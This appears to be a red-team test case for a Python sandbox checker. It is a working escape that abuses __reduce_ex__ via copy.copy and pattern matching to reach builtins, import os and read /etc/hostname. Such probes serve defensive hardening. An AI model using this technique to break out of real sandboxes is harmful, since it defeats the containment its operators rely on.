# family: red team, round 8 (simplenamespace_subclass_reduce_hook)
# Variant of rt_001's first step without ns.__init__: a SimpleNamespace subclass called with **runtime
# keys (the SimpleNamespace(**...) rule matches the callee's name only) puts __reduce_ex__ on an instance;
# copy.copy then calls it and setattr()s run-time names on any object (here __subclasshook__ and
# __match_args__ on the tool's ABC, as in rt_001).
import abc
import copy
import types


class Bag(types.SimpleNamespace):
    pass


class Probe(abc.ABC):
    pass


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(protocol):
        return (lambda: target, (), (None, names))

    copy.copy(Bag(**{_d("reduce_ex"): reducer}))


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): lambda sub: True, _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value


def run():
    b = read(read, _d("globals"))[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/etc/hostname").read().strip()


print(run())
